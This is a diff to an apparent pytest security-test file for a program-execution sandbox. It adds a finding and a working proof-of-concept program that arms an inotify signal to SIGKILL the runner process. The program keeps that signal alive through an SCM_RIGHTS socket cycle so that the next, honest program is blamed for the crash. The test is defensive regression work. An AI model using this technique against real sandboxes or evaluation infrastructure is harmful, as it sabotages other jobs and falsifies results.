@@ -7,6 +7,8 @@ FAILING today (confirmed findings):
 - test_cpu_limit_holds_when_the_program_lies_about_its_cpu: a program that patches the runner's
   cpu_used() in its own process moves the module-level budget into its first test call.
 - test_sys_argv_is_a_scripts: an honest program sees the runner's command line in sys.argv.
+- test_inspect_sandbox_next_program_not_blamed_for_a_delayed_signal: in Inspect's docker sandbox a
+  program arms a SIGKILL for the runner that fires while the NEXT program runs; that one is `error`.
 
 CONTAINED (pass today; kept as regression tests):
 - test_kernel_socket_memory_is_charged_and_gone: ~600 MB of unix socket buffers in 5 processes.
@@ -193,3 +195,79 @@ def test_kernel_socket_memory_is_charged_and_gone(executor):
         pytest.skip("the container has no cgroup v1 memory.usage_in_bytes to check the charge with")
     assert attack.test_outputs[0][0][0] == 1, attack.test_outputs  # charged to the container
     assert follow.status == "ok" and follow.test_outputs == [[[0, 0, 0]]], follow
+
+
+# -- FINDING 4 (fails today): Inspect's docker sandbox, a delayed signal blames the NEXT program ---
+# There (sandbox/compose.yaml, rps_evals/inspect_eval/sandbox.py) the runner and its programs share
+# uid 10002 and the runner is not --exclusive: no SCM_RIGHTS garbage is collected after a program.
+# A program arms an inotify fd on /dev/null with O_ASYNC, F_SETOWN = the runner, F_SETSIG = SIGKILL,
+# and parks it in an SCM_RIGHTS cycle of two bound sockets, so it outlives the program and the sweep.
+# The next program's process opens /dev/null at start (program.program_main): the runner is killed
+# while that honest program runs, and run_in_inspect_sandbox blames the first unanswered program:
+# the honest one is `error`; the attacker was answered `ok`. (The Docker backend is immune: the
+# runner is root and another uid, so sigio_perm refuses the signal; the cycle is also collected.)
+DELAYED_KILL = r'''
+import ctypes, fcntl, os, signal, socket
+def transform(grid):
+    libc = ctypes.CDLL(None, use_errno=True)
+    fd = libc.inotify_init1(0)
+    libc.inotify_add_watch(fd, b"/dev/null", 0x20)          # IN_OPEN
+    with open(f"/proc/{os.getppid()}/stat") as f:            # the zygote's parent: the runner
+        runner = int(f.read().rsplit(")", 1)[1].split()[1])
+    fcntl.fcntl(fd, fcntl.F_SETOWN, runner)
+    fcntl.fcntl(fd, 10, signal.SIGKILL)                       # F_SETSIG
+    fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)
+    a = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); a.bind("\0rt-a")
+    b = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); b.bind("\0rt-b")
+    a.connect("\0rt-b"); b.connect("\0rt-a")
+    socket.send_fds(a, [b"x"], [fd, a.fileno()])              # a cycle: alive after we die
+    socket.send_fds(b, [b"y"], [b.fileno()])
+    os.close(fd); a.close(); b.close()
+    return grid
+'''
+HONEST = "def transform(grid):\n    return [[x + 1 for x in row] for row in grid]\n"
+
+
+def test_inspect_sandbox_next_program_not_blamed_for_a_delayed_signal():
+    import asyncio
+    import subprocess
+    import sys
+    import types
+
+    pytest.importorskip("inspect_ai")
+    from rps_evals.inspect_eval import sandbox as inspect_sandbox
+    try:
+        from rps_evals.execution.image import docker_client, sandbox_image
+        docker_client(timeout=30)
+        image = sandbox_image()
+    except SandboxUnavailable as exc:
+        pytest.skip(f"docker engine unavailable: {exc}")
+
+    class ComposeLikeSandbox:
+        """What sandbox/compose.yaml gives (a fresh container per exec is enough here)."""
+
+        async def exec(self, cmd, input=None, timeout=None, user=None):
+            docker = ["docker", "run", "-i", "--rm", "--user", user or "10002:10002", "--network", "none",
+                      "--read-only", "--init", "--cap-drop", "ALL", "--security-opt", "no-new-privileges:true",
+                      "--tmpfs", "/tmp:rw,nosuid,nodev,noexec,size=64m,nr_inodes=4096,mode=1777",
+                      "--tmpfs", "/dev/shm:rw,nosuid,nodev,noexec,size=8m,nr_inodes=1024,mode=1777",
+                      "--ipc", "private", "--memory", "1280m", "--memory-swap", "1280m",
+                      "--pids-limit", "512", "--workdir", "/tmp", image, *cmd]
+            done = subprocess.run(docker, input=input, capture_output=True, text=True, timeout=timeout)
+            return ExecResult(done.returncode == 0, done.returncode, done.stdout, done.stderr)
+
+    from inspect_ai.util import ExecResult
+
+    fake = ComposeLikeSandbox()
+    util = types.SimpleNamespace(sandbox=lambda *a: fake, OutputLimitExceededError=type("E", (Exception,), {}))
+    real_util = sys.modules["inspect_ai.util"]
+    sys.modules["inspect_ai.util"] = util
+    try:
+        programs = [Program(DELAYED_KILL, [[[1, 2]]]), Program(HONEST, [[[1, 2]]]), Program(HONEST, [[[3]]])]
+        results = asyncio.run(inspect_sandbox.run_in_inspect_sandbox(programs, 2.0, user="10002:10002"))
+    finally:
+        sys.modules["inspect_ai.util"] = real_util
+    # Today: [ok, error ("the sandbox runner exited with code 137"), ok].
+    assert results[1].status == "ok", (results[1].status, results[1].error)
+    assert results[1].test_outputs == [[[2, 3]]]
+    assert results[2].status == "ok"
